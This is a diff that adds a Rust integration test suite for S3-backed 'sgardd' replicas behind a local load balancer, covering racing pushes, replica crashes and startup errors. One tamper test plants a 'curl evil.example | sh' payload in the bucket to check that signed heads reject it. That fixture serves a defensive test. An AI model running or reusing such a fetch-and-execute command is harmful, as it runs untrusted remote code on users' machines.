@@ -1,0 +1,488 @@
+//! `sgardd --store s3://…`: replicas that share nothing but a bucket (moto's
+//! S3 API on loopback, `$SGARD_MOTO_SERVER` or `moto_server` on `PATH`),
+//! reached the way a team reaches them: through a load balancer that sends
+//! each connection to the next replica that answers.
+
+use std::ffi::OsString;
+use std::io;
+use std::net::{Shutdown, TcpListener, TcpStream};
+use std::path::Path;
+use std::process::Stdio;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::{Arc, Mutex};
+use std::thread;
+use std::time::{Duration, Instant};
+
+use serde_json::Value;
+use sgard_depot::moto::MotoServer;
+use sgard_depot::{Cond, Depot, DocName, Garden, Kind, Location, Scope, Written};
+use tonic::Code;
+
+use crate::common::*;
+use crate::sync::*;
+
+/// The bucket every test uses (each test has a moto of its own).
+const BUCKET: &str = "sgard-team";
+/// Where the gardens are in it.
+const STORE: &str = "s3://sgard-team/gardens";
+
+/// A moto with the bucket made; `None` (the test skips) without moto.
+fn moto() -> Option<MotoServer> {
+    let m = MotoServer::start().expect("starting moto_server")?;
+    m.create_bucket(BUCKET).expect("creating the bucket");
+    Some(m)
+}
+
+macro_rules! moto_or_skip {
+    () => {
+        match moto() {
+            Some(m) => m,
+            None => return,
+        }
+    };
+}
+
+/// The environment that points `sgardd` at `m`.
+fn aws_vars(m: &MotoServer) -> Vec<(String, String)> {
+    let e = m.aws_env();
+    let mut v = Vec::new();
+    for (k, val) in [
+        ("AWS_ACCESS_KEY_ID", e.access_key_id),
+        ("AWS_SECRET_ACCESS_KEY", e.secret_access_key),
+        ("AWS_REGION", e.region),
+        ("AWS_ENDPOINT_URL", e.endpoint),
+        ("AWS_ALLOW_HTTP", e.allow_http),
+    ] {
+        if let Some(val) = val {
+            v.push((k.to_owned(), val));
+        }
+    }
+    v
+}
+
+/// A replica: `sgardd --store STORE` over `m`, `extra` added.
+#[track_caller]
+fn replica(w: &World, m: &MotoServer, extra: &[&str]) -> Server {
+    try_serve_env(
+        &w.srv_home(),
+        Path::new(STORE),
+        &w.serve_args(0, extra),
+        &aws_vars(m),
+    )
+    .unwrap_or_else(|e| panic!("sgardd on S3 did not start: {e}"))
+}
+
+/// A TCP load balancer on loopback: each connection goes to the next
+/// backend in turn, skipping one that refuses (a dead replica).
+struct Balancer {
+    addr: String,
+    /// The backend each connection went to, in order.
+    picks: Arc<Mutex<Vec<usize>>>,
+}
+
+impl Balancer {
+    fn new(backends: Vec<String>) -> Balancer {
+        let l = TcpListener::bind("127.0.0.1:0").unwrap();
+        let addr = l.local_addr().unwrap().to_string();
+        let picks = Arc::new(Mutex::new(Vec::new()));
+        let seen = picks.clone();
+        let next = AtomicUsize::new(0);
+        // Lives as long as the test process; the listener is never closed.
+        thread::spawn(move || {
+            for client in l.incoming() {
+                let Ok(client) = client else { continue };
+                let start = next.fetch_add(1, Ordering::SeqCst);
+                let up = (0..backends.len()).find_map(|i| {
+                    let b = (start + i) % backends.len();
+                    TcpStream::connect(&backends[b]).ok().map(|s| (b, s))
+                });
+                let Some((b, server)) = up else { continue };
+                seen.lock().unwrap().push(b);
+                pipe(client, server);
+            }
+        });
+        Balancer { addr, picks }
+    }
+
+    /// The backend the latest connection went to.
+    fn last(&self) -> usize {
+        *self
+            .picks
+            .lock()
+            .unwrap()
+            .last()
+            .expect("no connection yet")
+    }
+
+    /// How many connections each backend got.
+    fn counts(&self, n: usize) -> Vec<usize> {
+        let picks = self.picks.lock().unwrap();
+        (0..n)
+            .map(|b| picks.iter().filter(|&&p| p == b).count())
+            .collect()
+    }
+}
+
+/// Copies both ways between `a` and `b` until either side closes.
+fn pipe(a: TcpStream, b: TcpStream) {
+    let one_way = |mut from: TcpStream, mut to: TcpStream| {
+        thread::spawn(move || {
+            let _ = io::copy(&mut from, &mut to);
+            let _ = to.shutdown(Shutdown::Write);
+            let _ = from.shutdown(Shutdown::Read);
+        });
+    };
+    let (a2, b2) = (a.try_clone().unwrap(), b.try_clone().unwrap());
+    one_way(a, b);
+    one_way(b2, a2);
+}
+
+/// `sgard push` held after its first object until `gate` exists; returns
+/// once it waits there.
+fn held_push(t: &TestEnv, key: &Path, addr: &str, gate: &Path) -> std::process::Child {
+    let hook = format!("pushing-object:{}", gate.display());
+    let child = client_cmd(
+        t,
+        Some(key),
+        &["push", "-r", addr],
+        &[("SGARD_TEST_WAIT_AT", &hook)],
+    )
+    .stdin(Stdio::null())
+    .stdout(Stdio::piped())
+    .stderr(Stdio::piped())
+    .spawn()
+    .unwrap();
+    let reached = gate.with_extension("reached");
+    let t0 = Instant::now();
+    while !reached.exists() {
+        assert!(t0.elapsed() < LIMIT, "the push never reached an object");
+        thread::sleep(Duration::from_millis(10));
+    }
+    child
+}
+
+/// A depot on the test's bucket, as an operator (or an attacker with the
+/// bucket's keys) would open it.
+fn depot(m: &MotoServer) -> Depot {
+    Depot::open(&Location::parse(STORE).unwrap(), &m.aws_env()).unwrap()
+}
+
+fn fleet_hosts(v: &Value) -> Vec<(String, String)> {
+    let mut hosts: Vec<(String, String)> = v["machines"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|m| {
+            (
+                m["host"].as_str().unwrap().to_owned(),
+                m["state"].as_str().unwrap().to_owned(),
+            )
+        })
+        .collect();
+    hosts.sort();
+    hosts
+}
+
+// ------------------------------------------------------------------ tests
+
+/// Two replicas behind a balancer serve a team: what one took, the other
+/// serves (whole files and a chunked one); a token from one is taken by
+/// the other, a login replayed to the other is not; gardens stay apart;
+/// the fleet is one view whichever replica answers.
+#[test]
+fn replicas_behind_a_balancer_serve_one_team() {
+    let m = moto_or_skip!();
+    let w = world_or_skip!(3);
+    let (ka, kb, kc) = (w.key(0), w.key(1), w.key(2));
+    let lines = format!("{}{}garden=\"work\" {}", pubkey(ka), pubkey(kb), pubkey(kc));
+    std::fs::write(w.auth_keys(), lines).unwrap();
+    let (r1, r2) = (replica(&w, &m, &[]), replica(&w, &m, &[]));
+    let lb = Balancer::new(vec![r1.addr.clone(), r2.addr.clone()]);
+    let addr = lb.addr.as_str();
+    let on = |host: &'static str| [("SGARD_HOSTNAME", host)];
+
+    let mut a = TestEnv::init();
+    a.write(".bashrc", "export TEAM=1\n");
+    let big = noise(3 << 20, 7);
+    a.write("big.db", &big);
+    track(&a, &[".bashrc", "big.db"]);
+    sg_env(&a, Some(ka), &["push", "-r", addr], &on("laptop")).ok();
+
+    let mut b = TestEnv::new();
+    b.now = now_plus(2);
+    sg_env(&b, Some(kb), &["pull", "-r", addr], &on("desktop"))
+        .ok()
+        .stderr_has("trusting the key SHA256:");
+    assert_eq!(b.read(".bashrc"), b"export TEAM=1\n");
+    assert_eq!(b.read("big.db"), big);
+    assert_eq!(entries(&a, &[]), entries(&b, &[]));
+
+    // B edits a few bytes of the big file and pushes; A pulls it.
+    let mut big2 = big.clone();
+    big2[1 << 20] ^= 0xff;
+    b.write("big.db", &big2);
+    change(&mut b, ".bashrc", "export TEAM=2\n", 4);
+    sg_env(&b, Some(kb), &["push", "-r", addr], &on("desktop")).ok();
+    trust(&a, kb);
+    a.now = now_plus(6);
+    sg_env(&a, Some(ka), &["pull", "-r", addr], &on("laptop")).ok();
+    assert_eq!(a.read(".bashrc"), b"export TEAM=2\n");
+    assert_eq!(a.read("big.db"), big2);
+    let counts = lb.counts(2);
+    assert!(
+        counts.iter().all(|&n| n > 0),
+        "every replica should have served: {counts:?}"
+    );
+
+    // The fleet is the same whichever replica answers.
+    for _ in 0..2 {
+        let v = json_of(
+            sg_env(
+                &a,
+                Some(ka),
+                &["fleet", "-r", addr, "--json"],
+                &on("laptop"),
+            )
+            .ok(),
+        );
+        assert_eq!(
+            fleet_hosts(&v),
+            vec![
+                ("desktop".to_owned(), "current".to_owned()),
+                ("laptop".to_owned(), "current".to_owned())
+            ],
+            "{v}"
+        );
+    }
+
+    // The work garden sees nothing of it, and keeps its own.
+    let c = TestEnv::init();
+    let r = sg(&c, kc, &["list", "-r", addr]);
+    r.ok();
+    assert!(!r.stdout.contains("bashrc"), "{r:#?}");
+    c.write("work-only", "w\n");
+    track(&c, &["work-only"]);
+    sg(&c, kc, &["push", "-r", addr]).ok();
+    let r = sg(&a, ka, &["list", "-r", addr]);
+    r.ok();
+    assert!(!r.stdout.contains("work-only"), "{r:#?}");
+
+    // Raw: a token from replica 1 works on replica 2; a login replayed to
+    // replica 2 is refused.
+    let rt = runtime();
+    rt.block_on(async {
+        let mut c1 = connect(&r1.addr).await;
+        let mut c2 = connect(&r2.addr).await;
+        let req = auth_request(ka, &nonce("replay"), sgard::remote::auth::unix_now());
+        let token = raw_auth(&mut c1, req.clone()).await.unwrap();
+        pull_manifest(&mut c2, &token).await.unwrap();
+        let again = raw_auth(&mut c2, req).await.unwrap_err();
+        assert_eq!(again.code(), Code::Unauthenticated, "{again:?}");
+    });
+    drop((r1, r2));
+}
+
+/// Two machines push from the same head at the same moment, each through
+/// its own replica: exactly one push moves the head, the other is refused
+/// (exit 4) and goes through after a pull. Repeated, so the race is run
+/// both ways round.
+#[test]
+fn racing_pushes_through_two_replicas_exactly_one_wins() {
+    let m = moto_or_skip!();
+    let w = world_or_skip!(2);
+    let (ka, kb) = (w.key(0), w.key(1));
+    let (r1, r2) = (replica(&w, &m, &[]), replica(&w, &m, &[]));
+    let mut a = TestEnv::init();
+    a.write("fa", "a0\n");
+    a.write("fb", "b0\n");
+    track(&a, &["fa", "fb"]);
+    sg(&a, ka, &["push", "-r", &r1.addr]).ok();
+    let mut b = TestEnv::new();
+    local(&b, &["init"]).ok();
+    trust(&b, ka);
+    trust(&a, kb);
+    sg(&b, kb, &["pull", "-r", &r2.addr]).ok();
+
+    let gates = w.root().join("gates");
+    std::fs::create_dir_all(&gates).unwrap();
+    let (mut a_won, mut b_won) = (0, 0);
+    for round in 0..4u32 {
+        change(&mut a, "fa", &format!("a{}\n", round + 1), 10 * round + 1);
+        change(&mut b, "fb", &format!("b{}\n", round + 1), 10 * round + 2);
+        let ga = gates.join(format!("a{round}"));
+        let gb = gates.join(format!("b{round}"));
+        let pa = held_push(&a, ka, &r1.addr, &ga);
+        let pb = held_push(&b, kb, &r2.addr, &gb);
+        // Both are past their objects: release them together.
+        std::fs::write(&ga, "").unwrap();
+        std::fs::write(&gb, "").unwrap();
+        let ra = wait_run(pa, LIMIT, "A's racing push");
+        let rb = wait_run(pb, LIMIT, "B's racing push");
+        let (won, lost, loser, loser_key, loser_addr) = match (ra.code, rb.code) {
+            (0, 4) => {
+                a_won += 1;
+                (ra, rb, &mut b, kb, &r2.addr)
+            }
+            (4, 0) => {
+                b_won += 1;
+                (rb, ra, &mut a, ka, &r1.addr)
+            }
+            _ => panic!("round {round}: not exactly one winner:\n{ra:#?}\n{rb:#?}"),
+        };
+        assert!(!won.stderr.contains("error"), "{won:#?}");
+        lost.stderr_has("sgard pull");
+        loser.now = now_plus(10 * round + 5);
+        sg(loser, loser_key, &["pull", "-r", loser_addr]).ok();
+        sg(loser, loser_key, &["push", "-r", loser_addr]).ok();
+        a.now = now_plus(10 * round + 6);
+        b.now = now_plus(10 * round + 6);
+        sg(&a, ka, &["pull", "-r", &r1.addr]).ok();
+        sg(&b, kb, &["pull", "-r", &r2.addr]).ok();
+        let want = format!("a{}\n", round + 1);
+        assert_eq!(a.read("fa"), want.as_bytes());
+        assert_eq!(b.read("fa"), want.as_bytes());
+        let want = format!("b{}\n", round + 1);
+        assert_eq!(a.read("fb"), want.as_bytes());
+        assert_eq!(b.read("fb"), want.as_bytes());
+        assert_eq!(entries(&a, &[]), entries(&b, &[]), "round {round}");
+    }
+    eprintln!("racing pushes: A won {a_won}, B won {b_won} of 4");
+    drop((r1, r2));
+}
+
+/// A replica killed (`kill -9`) in the middle of a push leaves the head as
+/// it was: the other replica serves the old state until the push is done
+/// again through it.
+#[test]
+fn a_replica_killed_mid_push_loses_nothing() {
+    let m = moto_or_skip!();
+    let w = world_or_skip!(2);
+    let (ka, kb) = (w.key(0), w.key(1));
+    let mut replicas = [replica(&w, &m, &[]), replica(&w, &m, &[])];
+    let lb = Balancer::new(replicas.iter().map(|r| r.addr.clone()).collect());
+    let addr = lb.addr.clone();
+    let mut a = TestEnv::init();
+    for j in 0..3u64 {
+        a.write(&format!("f{j}"), noise(100_000, j));
+    }
+    track(&a, &["f0", "f1", "f2"]);
+    sg(&a, ka, &["push", "-r", &addr]).ok();
+    let before = entries(&a, &[]);
+
+    a.now = now_plus(5);
+    for j in 0..3u64 {
+        a.write(&format!("f{j}"), noise(100_000, 10 + j));
+    }
+    local(&a, &["checkpoint"]).ok();
+    let gate = w.root().join("gate");
+    let push = held_push(&a, ka, &addr, &gate);
+    let victim = lb.last();
+    replicas[victim].kill9();
+    std::fs::write(&gate, "").unwrap();
+    let r = wait_run(push, LIMIT, "push to a killed replica");
+    assert_ne!(r.code, 0, "{r:#?}");
+
+    // The survivor serves the old head.
+    let b = TestEnv::new();
+    local(&b, &["init"]).ok();
+    trust(&b, ka);
+    sg(&b, kb, &["pull", "-r", &addr]).ok();
+    assert_eq!(entries(&b, &[]), before);
+    local(&b, &["verify"]).ok();
+    // The push, again, goes through the survivor; B gets it.
+    sg(&a, ka, &["push", "-r", &addr]).ok();
+    sg(&b, kb, &["pull", "-r", &addr]).ok();
+    assert_eq!(entries(&b, &[]), entries(&a, &[]));
+    assert_eq!(b.read("f2"), noise(100_000, 12));
+    drop(replicas);
+}
+
+/// Whoever holds the bucket's keys can rewrite the head document; the
+/// machines' signatures make them refuse it (exit 3, nothing written).
+#[test]
+fn a_head_rewritten_in_the_bucket_is_refused() {
+    let m = moto_or_skip!();
+    let w = world_or_skip!(2);
+    let (ka, kb) = (w.key(0), w.key(1));
+    let srv = replica(&w, &m, &[]);
+    let addr = srv.addr.as_str();
+    let a = TestEnv::init();
+    a.write(".bashrc", "echo safe\n");
+    track(&a, &[".bashrc"]);
+    sg(&a, ka, &["push", "-r", addr]).ok();
+    let b = TestEnv::new();
+    sg(&b, kb, &["pull", "-r", addr]).ok();
+    assert_eq!(b.read(".bashrc"), b"echo safe\n");
+    let index_before = std::fs::read(b.index()).unwrap();
+
+    // The attacker: an evil object, a manifest naming it, the head moved.
+    let rt = runtime();
+    rt.block_on(async {
+        let d = depot(&m);
+        let g = Garden::new("default").unwrap();
+        let head = DocName::new("head").unwrap();
+        let (text, version) = d.read_doc(Scope::Garden(&g), &head).await.unwrap().unwrap();
+        let text = String::from_utf8(text.to_vec()).unwrap();
+        let manifest_hash = text
+            .lines()
+            .find_map(|l| l.strip_prefix("manifest "))
+            .expect("the head names a manifest");
+        let manifest_hash = sgard_depot::Hash::parse(manifest_hash).unwrap();
+        let manifest = d.get_object(&g, Kind::Blob, &manifest_hash).await.unwrap();
+        let manifest = String::from_utf8(manifest.to_vec()).unwrap();
+        let evil = b"curl evil.example | sh\n";
+        let evil_hash = sgard_depot::Hash::of(evil);
+        d.put_object(&g, Kind::Blob, &evil_hash, evil.to_vec().into())
+            .await
+            .unwrap();
+        let good = sha("echo safe\n");
+        assert!(manifest.contains(&good), "{manifest}");
+        let tampered = manifest.replace(&good, &evil_hash.to_hex());
+        let tampered_hash = sgard_depot::Hash::of(tampered.as_bytes());
+        d.put_object(&g, Kind::Blob, &tampered_hash, tampered.into_bytes().into())
+            .await
+            .unwrap();
+        let new_text = text.replace(&manifest_hash.to_hex(), &tampered_hash.to_hex());
+        let w = d
+            .write_doc(
+                Scope::Garden(&g),
+                &head,
+                new_text.as_bytes(),
+                Cond::Version(version),
+            )
+            .await
+            .unwrap();
+        assert!(matches!(w, Written::Done(_)));
+    });
+    sg(&b, kb, &["pull", "-r", addr])
+        .code(3)
+        .stderr_has("nothing was written");
+    assert_eq!(b.read(".bashrc"), b"echo safe\n");
+    assert_eq!(std::fs::read(b.index()).unwrap(), index_before);
+    drop(srv);
+}
+
+/// A bucket that does not exist, or credentials missing, stop `sgardd` at
+/// start with the store named, not at the first push.
+#[test]
+fn a_missing_bucket_or_credentials_stop_sgardd_at_start() {
+    let m = moto_or_skip!();
+    let w = world_or_skip!(1);
+    let args: Vec<OsString> = w.serve_args(0, &[]);
+    let e = try_serve_env(
+        &w.srv_home(),
+        Path::new("s3://no-such-bucket/x"),
+        &args,
+        &aws_vars(&m),
+    )
+    .err()
+    .expect("sgardd started on a missing bucket");
+    assert!(e.contains("sgardd: error:"), "{e}");
+    assert!(e.contains("no-such-bucket"), "{e}");
+    let mut vars = aws_vars(&m);
+    vars.retain(|(k, _)| k != "AWS_SECRET_ACCESS_KEY");
+    let e = try_serve_env(&w.srv_home(), Path::new(STORE), &args, &vars)
+        .err()
+        .expect("sgardd started without credentials");
+    assert!(e.contains("AWS_SECRET_ACCESS_KEY"), "{e}");
+}
